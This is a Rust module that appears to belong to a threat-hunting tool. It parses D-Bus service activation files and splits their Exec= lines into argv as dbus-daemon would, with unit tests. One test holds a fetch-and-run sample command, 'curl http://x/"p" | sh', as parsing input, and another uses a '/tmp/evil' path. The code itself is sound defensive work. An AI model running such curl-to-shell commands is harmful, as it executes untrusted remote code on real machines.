//! The `.service` activation file: a key file whose `[D-BUS Service]` group
//! tells a bus which program to start for a name.
//!
//! [`parse`] takes bytes (the caller reads them safely, see
//! `sources::fs_safe`) and returns the keys a bus acts on, read the way
//! dbus-daemon reads them (`bus/desktop-file.c`): `#` comments and blank
//! lines are skipped; a group starts with `[` in column 0; a key is a run
//! of letters, digits and `-`, a key with a `[locale]` suffix is ignored;
//! spaces around `=` are dropped; values are unescaped (`\s`, `\t`, `\n`,
//! `\r`, `\\`); only the *first* `[D-BUS Service]` group counts, and within
//! it the *first* of duplicate keys wins. [`split_exec`] then turns an
//! `Exec=` value into the argv dbus-daemon would run
//! (`_dbus_shell_parse_argv`), so a hunt sees the real program behind
//! `/bin/sh -c "…"` wrappers.
//!
//! Where dbus-daemon refuses a whole file (a malformed line, a bad escape,
//! invalid UTF-8, a key before any group), this parser goes on: a hunter
//! wants whatever the file says. Each such fault is named in
//! [`ServiceFile::problems`]; a bad line is skipped, a bad escape keeps the
//! value as written, bytes that are not UTF-8 become `\xNN`
//! (`fs_safe::render`).
use crate::sources::fs_safe;

/// How much of a service file is read: real ones are a few hundred bytes,
/// and dbus-daemon itself refuses anything past 128 KiB.
pub const MAX_SERVICE_FILE_BYTES: u64 = 64 * 1024;

/// The group dbus-daemon reads.
const GROUP: &str = "D-BUS Service";

/// The keys of the first `[D-BUS Service]` group that matter for
/// activation, unescaped as dbus-daemon reads them.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ServiceFile {
    pub name: Option<String>,
    pub exec: Option<String>,
    pub user: Option<String>,
    pub systemd_service: Option<String>,
    pub assumed_apparmor_label: Option<String>,
    /// `Exec=` exactly as written in the file (escapes not resolved).
    pub exec_as_written: Option<String>,
    /// Faults for which dbus-daemon would refuse the whole file, each
    /// starting with its line number.
    pub problems: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ServiceFileError {
    #[error("no [D-BUS Service] group")]
    NoServiceGroup,
}

/// Why an `Exec=` line could not be split into an argv.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ExecError {
    #[error("Exec is empty")]
    Empty,
    #[error("Exec has an unterminated {0} quote")]
    UnterminatedQuote(char),
    #[error("Exec ends in a lone backslash")]
    TrailingBackslash,
}

fn is_key_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '-'
}

/// Resolves key-file escapes; on a bad one, the escape sequence that
/// dbus-daemon would refuse.
fn unescape(value: &str) -> Result<String, String> {
    let mut out = String::with_capacity(value.len());
    let mut chars = value.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        out.push(match chars.next() {
            Some('s') => ' ',
            Some('t') => '\t',
            Some('n') => '\n',
            Some('r') => '\r',
            Some('\\') => '\\',
            Some(other) => return Err(format!("\\{other}")),
            None => return Err("\\ at the end".to_string()),
        });
    }
    Ok(out)
}

/// Reads the `[D-BUS Service]` keys out of a service file's bytes. Fails
/// only when the group is missing, as a file without it activates nothing.
pub fn parse(bytes: &[u8]) -> Result<ServiceFile, ServiceFileError> {
    #[derive(PartialEq)]
    enum Where {
        BeforeAnyGroup,
        Service,
        Other,
    }
    let mut out = ServiceFile::default();
    let mut at = Where::BeforeAnyGroup;
    let mut seen_group = false;
    let mut problems = Vec::new();
    for (i, raw) in bytes.split(|b| *b == b'\n').enumerate() {
        let n = i + 1;
        let raw = raw.strip_suffix(b"\r").unwrap_or(raw);
        // Borrowed when valid, as nearly every line is: no copy per line.
        let line: std::borrow::Cow<str> = match std::str::from_utf8(raw) {
            Ok(l) => l.into(),
            Err(_) => {
                problems.push(problem_at(n, "not UTF-8".into()));
                fs_safe::render(raw).into()
            }
        };
        if line.trim().is_empty() || line.starts_with('#') {
            continue;
        }
        if let Some(rest) = line.strip_prefix('[') {
            match rest.strip_suffix(']') {
                Some(group) if group == GROUP && !seen_group => {
                    seen_group = true;
                    at = Where::Service;
                }
                Some(_) => at = Where::Other,
                None => {
                    problems.push(problem_at(n, "malformed group header".into()));
                    at = Where::Other;
                }
            }
            continue;
        }
        match at {
            Where::BeforeAnyGroup => {
                problems.push(problem_at(n, "key before any group".into()));
                continue;
            }
            Where::Other => continue,
            Where::Service => {}
        }
        let key_len = line.find(|c: char| !is_key_char(c)).unwrap_or(line.len());
        let (key, rest) = line.split_at(key_len);
        if key.is_empty() {
            problems.push(problem_at(n, "empty key name".into()));
            continue;
        }
        if rest.starts_with('[') {
            continue; // a localised key: dbus-daemon ignores it
        }
        let Some(value) = rest.trim_start_matches(' ').strip_prefix('=') else {
            problems.push(problem_at(n, format!("no '=' after key {key}")));
            continue;
        };
        let value = value.trim_start_matches(' ');
        let slot = match key {
            "Name" => &mut out.name,
            "Exec" => &mut out.exec,
            "User" => &mut out.user,
            "SystemdService" => &mut out.systemd_service,
            "AssumedAppArmorLabel" => &mut out.assumed_apparmor_label,
            _ => continue,
        };
        if slot.is_some() {
            continue;
        }
        *slot = Some(match unescape(value) {
            Ok(v) => v,
            Err(esc) => {
                problems.push(problem_at(n, format!("invalid escape {esc} in {key}")));
                value.to_string()
            }
        });
        if key == "Exec" {
            out.exec_as_written = Some(value.to_string());
        }
    }
    out.problems = problems;
    if seen_group {
        Ok(out)
    } else {
        Err(ServiceFileError::NoServiceGroup)
    }
}

fn problem_at(line: usize, what: String) -> String {
    format!("line {line}: {what}")
}

/// Splits an `Exec=` value the way dbus-daemon does before it execs it
/// (`_dbus_shell_parse_argv` in `dbus/dbus-shell.c`), quirks included, so
/// the argv matches what a spawned process shows in `/proc/<pid>/cmdline`:
///
/// - outside quotes, space and tab separate words; a newline ends a word
///   even when empty; the end of the value always ends one, so trailing
///   blanks leave a final empty argument;
/// - outside quotes a backslash takes the next character literally, and
///   backslash-newline vanishes;
/// - an unquoted `#` discards the rest of the line *and* its newline, in the
///   middle of a word too;
/// - inside double quotes a backslash escapes only `"`, `\`, `$`, `` ` ``
///   and newline (which is kept), elsewhere it stays; single quotes are
///   literal; quoted and bare parts of one word join, `""` is an empty word.
///
/// No variable, glob or `PATH` expansion happens.
pub fn split_exec(exec: &str) -> Result<Vec<String>, ExecError> {
    let mut argv = Vec::new();
    let mut word = String::new();
    // Whether the word has any source text yet (a quote pair counts): only
    // such a word is ended by a blank.
    let mut in_word = false;
    let mut chars = exec.chars();
    while let Some(c) = chars.next() {
        match c {
            '\n' => {
                argv.push(std::mem::take(&mut word));
                in_word = false;
            }
            ' ' | '\t' => {
                if in_word {
                    argv.push(std::mem::take(&mut word));
                    in_word = false;
                }
            }
            '#' => {
                if !chars.by_ref().any(|c| c == '\n') {
                    break;
                }
            }
            '\\' => match chars.next() {
                Some('\n') => {}
                Some(n) => {
                    word.push(n);
                    in_word = true;
                }
                None => return Err(ExecError::TrailingBackslash),
            },
            '\'' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(n) => word.push(n),
                        None => return Err(ExecError::UnterminatedQuote('\'')),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('"') => break,
                        Some('\\') => match chars.next() {
                            Some(n @ ('"' | '\\' | '$' | '`' | '\n')) => word.push(n),
                            Some(n) => {
                                word.push('\\');
                                word.push(n);
                            }
                            None => return Err(ExecError::UnterminatedQuote('"')),
                        },
                        Some(n) => word.push(n),
                        None => return Err(ExecError::UnterminatedQuote('"')),
                    }
                }
            }
            _ => {
                word.push(c);
                in_word = true;
            }
        }
    }
    argv.push(word);
    if argv.iter().all(String::is_empty) {
        return Err(ExecError::Empty);
    }
    Ok(argv)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_first_wins_and_noise_ignored() {
        let f = parse(
            b"# comment\n\
[Other]\n\
Name=org.wrong\n\
\n\
[D-BUS Service]\n\
Name = org.example.Foo\r\n\
Name[de]=org.localised\n\
Exec=/usr/libexec/foo\\s--bar \\\\x\n\
Exec=/tmp/evil\n\
Name=org.second\n\
User=root\n\
SystemdService=foo.service\n\
AssumedAppArmorLabel=unconfined\n\
Unknown=x\n\
garbage line\n\
[Another]\n\
User=nobody\n\
[D-BUS Service]\n\
SystemdService=second-group-is-ignored.service\n",
        )
        .unwrap();
        assert_eq!(f.name.as_deref(), Some("org.example.Foo"));
        assert_eq!(f.exec.as_deref(), Some("/usr/libexec/foo --bar \\x"));
        assert_eq!(
            f.exec_as_written.as_deref(),
            Some("/usr/libexec/foo\\s--bar \\\\x")
        );
        assert_eq!(f.user.as_deref(), Some("root"));
        assert_eq!(f.systemd_service.as_deref(), Some("foo.service"));
        assert_eq!(f.assumed_apparmor_label.as_deref(), Some("unconfined"));
        assert_eq!(f.problems, ["line 15: no '=' after key garbage"]);
    }

    #[test]
    fn faults_dbus_daemon_refuses_are_named() {
        let f = parse(
            b"Stray=1\n[D-BUS Service]\n  Indented=1\n[broken\nExec=/bin/sh -c \"echo \\\"hi\\\"\"\n",
        )
        .unwrap();
        assert_eq!(
            f.problems,
            [
                "line 1: key before any group",
                "line 3: empty key name",
                "line 4: malformed group header",
            ]
        );
        // The Exec came after the broken header, so it is in no group.
        assert_eq!(f.exec, None);
        let f = parse(b"[D-BUS Service]\nExec=/bin/sh -c \"echo \\\"hi\\\"\"\n").unwrap();
        assert_eq!(f.problems, ["line 2: invalid escape \\\" in Exec"]);
        assert_eq!(f.exec.as_deref(), Some("/bin/sh -c \"echo \\\"hi\\\"\""));
    }

    #[test]
    fn missing_group_and_binary_garbage() {
        assert_eq!(
            parse(b"Name=x\nExec=/bin/true\n"),
            Err(ServiceFileError::NoServiceGroup)
        );
        assert_eq!(
            parse(b"\x7fELF\x02\x01\x01\0\0\0\xff\xfe"),
            Err(ServiceFileError::NoServiceGroup)
        );
        assert_eq!(parse(b""), Err(ServiceFileError::NoServiceGroup));
    }

    #[test]
    fn non_utf8_values_survive_as_escapes() {
        let f = parse(b"[D-BUS Service]\nName=a\nExec=/opt/caf\xe9 -x\n").unwrap();
        // `\xe9` reads as an escape to the key-file rules, so the value
        // stays as rendered.
        assert_eq!(f.exec.as_deref(), Some("/opt/caf\\xe9 -x"));
        assert_eq!(f.problems[0], "line 3: not UTF-8");
    }

    #[test]
    fn split_like_dbus_daemon() {
        let s = |x: &str| split_exec(x).unwrap();
        assert_eq!(s("/usr/bin/foo  --a\tb"), ["/usr/bin/foo", "--a", "b"]);
        assert_eq!(
            s(r#"/bin/sh -c "curl http://x/\"p\" | sh; echo \$HOME \a""#),
            ["/bin/sh", "-c", r#"curl http://x/"p" | sh; echo $HOME \a"#]
        );
        assert_eq!(
            s(r#"/bin/sh -c 'a "b" \c'"#),
            ["/bin/sh", "-c", r#"a "b" \c"#]
        );
        assert_eq!(s(r"/opt/my\ prog x\\y"), ["/opt/my prog", r"x\y"]);
        assert_eq!(s(r#"a"b c"'d e'f"#), ["ab cd ef"]);
        assert_eq!(s(r#"x "" ''"#), ["x", "", ""]);
        assert_eq!(s("a \\\nb"), ["a", "b"]);
        assert_eq!(s("\"/path with/space\" arg"), ["/path with/space", "arg"]);
        // dbus-daemon's quirks, kept so argv matches the spawned process.
        assert_eq!(s("a b "), ["a", "b", ""]);
        assert_eq!(s("a\n\nb"), ["a", "", "b"]);
        assert_eq!(s("/bin/x#comment 'unclosed"), ["/bin/x"]);
        assert_eq!(s("a#c d\nb"), ["ab"]);
        assert_eq!(s("\"a\\\nb\""), ["a\nb"]);
        assert_eq!(s("\t/bin/x"), ["/bin/x"]);
        assert_eq!(split_exec("  "), Err(ExecError::Empty));
        assert_eq!(split_exec(""), Err(ExecError::Empty));
        assert_eq!(split_exec("a 'b"), Err(ExecError::UnterminatedQuote('\'')));
        assert_eq!(split_exec("a \"b"), Err(ExecError::UnterminatedQuote('"')));
        assert_eq!(split_exec("a \\"), Err(ExecError::TrailingBackslash));
    }
}
